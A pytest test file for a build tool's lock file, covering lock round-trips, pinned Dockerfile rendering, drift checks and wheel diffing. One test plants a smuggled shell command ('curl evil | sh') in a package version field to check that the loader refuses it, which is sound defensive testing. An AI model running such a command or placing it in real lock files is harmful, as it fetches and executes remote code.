"""builder.lock (pure parts: format, pins in rendered Dockerfiles, drift checks) and
builder.run.verify's per-file diff of two wheels."""

from __future__ import annotations

import dataclasses
import json
import zipfile

import pytest

from builder.config import load_config
from builder.repro.lock import (
    apt_delta,
    check_sources,
    check_wheels,
    differences,
    install_failures,
    locked_spec,
    parse_hashes,
    parse_inspection,
    spec_digest,
    wheels_record,
)
from builder.repro.lockfile import (
    BaseLock,
    Lock,
    LockError,
    PipPin,
    SourceLock,
    StageLock,
    lock_from_json,
    lock_to_json,
)
from builder.repro.normalize import normalize_wheel
from builder.run.verify import diff_wheels, entry_digests
from builder.stages.plan import image_stages, render_stage

CFG = load_config(None, {})
SPECS = {s.name: s for s in image_stages(CFG)}
BASE_APT = {"libc6": "2.36-9+deb12u9", "dpkg": "1.21.22"}
TOOLCHAIN_APT = {**BASE_APT, **{p: v for p, v in SPECS["toolchain"].pins.items()},
                 "cpp-12": "12.2.0-14+deb12u1", "libisl23": "0.25-1.1", "libc6": "2.36-9+deb12u10"}
PIP = {"pip": PipPin("23.0.1"), "setuptools": PipPin("80.9.0", "1" * 64), "wheel": PipPin("0.45.1", "2" * 64)}


def stage_lock(name: str, apt: dict[str, str], pip: dict[str, PipPin] | None = None) -> StageLock:
    return StageLock(name, "k-" + name, f"builder/{name}:k", "sha256:" + "0" * 64, spec_digest(SPECS[name]), apt,
                     pip or {})


def make() -> Lock:
    return Lock(base=BaseLock("builder/debian:bookworm-minbase", "sha256:" + "9" * 64, [], BASE_APT),
                stages={"toolchain": stage_lock("toolchain", TOOLCHAIN_APT),
                        "python": stage_lock("python", TOOLCHAIN_APT, PIP)},
                sources={"torch": SourceLock("file:///repos/torch", "main", "a" * 40)})


def _wheels_cfg(**wheels: str):
    return load_config(None, {}, {f"wheels.{k}": v for k, v in wheels.items()})


def test_wheels_record_holds_the_settings_and_the_auditwheel_of_the_python_stage():
    stages = {"toolchain": stage_lock("toolchain", TOOLCHAIN_APT),
              "python": stage_lock("python", TOOLCHAIN_APT, {**PIP, "auditwheel": PipPin("6.8.2", "3" * 64)})}
    assert wheels_record(_wheels_cfg(plat="manylinux_2_28", external_libs="refuse"), stages) == {
        "plat": "manylinux_2_28", "external_libs": "refuse", "auditwheel": "6.8.2"}
    assert wheels_record(CFG, {"toolchain": stages["toolchain"]}) == {
        "plat": "auto", "external_libs": "vendor", "auditwheel": ""}


def test_locked_build_refuses_other_wheels_settings_and_accepts_the_locked_ones():
    lock = dataclasses.replace(make(), wheels={"plat": "auto", "external_libs": "vendor", "auditwheel": "6.8.2"})
    check_wheels(lock, CFG)  # same settings: accepted
    with pytest.raises(LockError) as err:
        check_wheels(lock, _wheels_cfg(plat="manylinux_2_28", external_libs="refuse"))
    assert err.value.message == ("[wheels] differs from builder.lock: plat 'manylinux_2_28' (lock: 'auto'), "
                              "external_libs 'refuse' (lock: 'vendor')")
    assert "builder lock" in err.value.hint
    with pytest.raises(LockError) as err:
        check_wheels(lock, _wheels_cfg(external_libs="refuse"))
    assert err.value.message == "[wheels] differs from builder.lock: external_libs 'refuse' (lock: 'vendor')"
    # a lock from before the audit recorded no [wheels]: nothing to compare
    check_wheels(dataclasses.replace(lock, wheels={}), _wheels_cfg(plat="manylinux_2_28"))


def test_lock_wheels_round_trip_and_a_bad_shape_is_refused():
    lock = dataclasses.replace(make(), wheels={"plat": "manylinux_2_28", "external_libs": "vendor",
                                               "auditwheel": "6.8.2"})
    text = lock_to_json(lock)
    assert json.loads(text)["wheels"] == lock.wheels
    assert lock_from_json(text) == lock
    data = json.loads(text)
    data["wheels"] = ["manylinux_2_28"]
    with pytest.raises(LockError, match="not a valid builder lock file"):
        lock_from_json(json.dumps(data))


def test_lock_file_round_trips_and_rejects_garbage():
    lock = make()
    assert lock_from_json(lock_to_json(lock)) == lock
    with pytest.raises(LockError, match="not a valid builder lock file"):
        lock_from_json("{\"version\": 1}")
    with pytest.raises(LockError, match="lock format 7"):
        lock_from_json("{\"version\": 7}")
    hostile = json.loads(lock_to_json(lock))
    hostile["stages"]["toolchain"]["apt"]["cpp-12"] = "1.0; curl evil | sh"
    with pytest.raises(LockError, match="toolchain: cpp-12 version .* is not a valid Debian package version"):
        lock_from_json(json.dumps(hostile))


def test_unlocked_render_is_unchanged_and_locked_render_pins_every_package():
    toolchain = SPECS["toolchain"]
    plain = render_stage(toolchain, "builder/base:k", "sha256:p").dockerfile
    assert "cpp-12" not in plain
    spec = locked_spec(toolchain, make().stages["toolchain"], BASE_APT)
    locked = render_stage(spec, "builder/base:k", "sha256:p").dockerfile
    assert "      cpp-12=12.2.0-14+deb12u1 \\\n" in locked and "libisl23=0.25-1.1" in locked
    assert "libc6=2.36-9+deb12u10" in locked  # upgraded over the parent: pinned too
    assert "dpkg=" not in locked  # unchanged from the parent: comes with it
    assert locked.count("gcc-12=") == 1  # already pinned by builder.toml: not twice
    assert spec.pins["cpp-12"] == "12.2.0-14+deb12u1"  # checked in the built image like every pin
    python = locked_spec(SPECS["python"], make().stages["python"], TOOLCHAIN_APT)
    text = render_stage(python, "builder/toolchain:k", "sha256:p").dockerfile
    assert "--no-deps --require-hashes -r /opt/venv/builder-lock-requirements.txt" in text
    assert f"'setuptools==80.9.0 --hash=sha256:{'1' * 64}' \\\n" in text and "pip==" not in text
    assert "'wheel==0.45.1 --hash=sha256:" in text


def test_a_lock_for_other_pins_is_refused():
    stale = stage_lock("toolchain", {**TOOLCHAIN_APT, "gcc-12": "12.2.0-13"})
    with pytest.raises(LockError, match="does not match builder.toml in stage toolchain: gcc-12 12.2.0-14"):
        locked_spec(SPECS["toolchain"], stale, BASE_APT)


def test_spec_digest_follows_the_config():
    other = load_config(None, {"BUILDER_TOOLCHAIN_CMAKE": "3.25.1-2"})
    assert spec_digest(image_stages(other)[1]) != spec_digest(SPECS["toolchain"])
    assert spec_digest(image_stages(other)[0]) == spec_digest(SPECS["base"])


def test_parsers():
    apt, pip = parse_inspection("gcc-12\t12.2.0-14\tinstalled\nold\t1\tconfig-files\n--- pip\n"
                                "pip==23.0.1\nSetuptools==80.9.0\n")
    assert apt == {"gcc-12": "12.2.0-14"} and pip == {"pip": "23.0.1", "setuptools": "80.9.0"}
    hashes = parse_hashes(f"{'a' * 64}  setuptools-80.9.0-py3-none-any.whl\n{'b' * 64}  foo-1.0.tar.gz\njunk\n")
    assert hashes == {"setuptools": "a" * 64, "foo": "b" * 64}
    assert apt_delta({"a": "1", "b": "2", "c": "3"}, {"a": "1", "b": "1"}) == {"b": "2", "c": "3"}
    assert differences({"a": "1"}, {"a": "2", "b": "1"}) == ["a 2 (lock: 1)", "b 1 (lock: absent)"]
    assert differences({}, {}, {"x": PipPin("1", "h")}, {"x": "2"}) == ["pip x 2 (lock: 1)"]
    log = ("Step 2/4 : RUN apt-get ...\n\x1b[91mE\x1b[0m\x1b[91m: \x1b[0m\x1b[91mVersion '99.0-nope' for 'cpp-12' "
           "was not found\x1b[0m\x1b[91m\n"
           "ERROR: No matching distribution found for wheel==9.9\n")
    assert install_failures(log) == ["E: Version '99.0-nope' for 'cpp-12' was not found",
                                     "ERROR: No matching distribution found for wheel==9.9"]


def test_a_moved_ref_is_an_error():
    lock = make()
    check_sources(lock, [("torch", "file:///repos/torch", "main", "a" * 40)])
    with pytest.raises(LockError, match=r"torch: ref main moved: it is now bbbbbbbbbbbb, builder.lock has aaaa"):
        check_sources(lock, [("torch", "file:///repos/torch", "main", "b" * 40)])
    with pytest.raises(LockError, match="records no xla source"):
        check_sources(lock, [("xla", "file:///repos/xla", "main", "b" * 40)])
    with pytest.raises(LockError, match="is not the locked file:///repos/torch"):
        check_sources(lock, [("torch", "file:///elsewhere", "main", "a" * 40)])


def _wheel(path, files):
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
        zf.writestr("demo-1.0.dist-info/RECORD", "")
    normalize_wheel(path, 0)
    return path


def test_diff_names_the_file_inside_the_wheel(tmp_path):
    files = {"demo/__init__.py": b"x = 1\n", "demo/big.bin": bytes(range(256)) * 64,
             "demo-1.0.dist-info/METADATA": b"Name: demo\n"}
    a = _wheel(tmp_path / "a" / "demo-1.0-py3-none-any.whl", files)
    b = _wheel(tmp_path / "b" / "demo-1.0-py3-none-any.whl", files)
    assert diff_wheels(a, b) == []
    c = _wheel(tmp_path / "c" / "demo-1.0-py3-none-any.whl", {**files, "demo/__init__.py": b"x = 2\n"})
    assert [line.split(":")[0] for line in diff_wheels(a, c)] == ["demo-1.0.dist-info/RECORD", "demo/__init__.py"]
    # One flipped byte inside big.bin's compressed data: its CRC fails, and it is named.
    with zipfile.ZipFile(b) as zf:
        info = zf.getinfo("demo/big.bin")
    data = bytearray(b.read_bytes())
    offset = info.header_offset + 30 + len(info.filename.encode()) + info.compress_size // 2
    data[offset] ^= 0xFF
    b.write_bytes(bytes(data))
    digests, _ = entry_digests(b)
    assert digests["demo/big.bin"].startswith("unreadable:")
    lines = diff_wheels(a, b)
    assert len(lines) == 1 and lines[0].startswith("demo/big.bin: content differs")
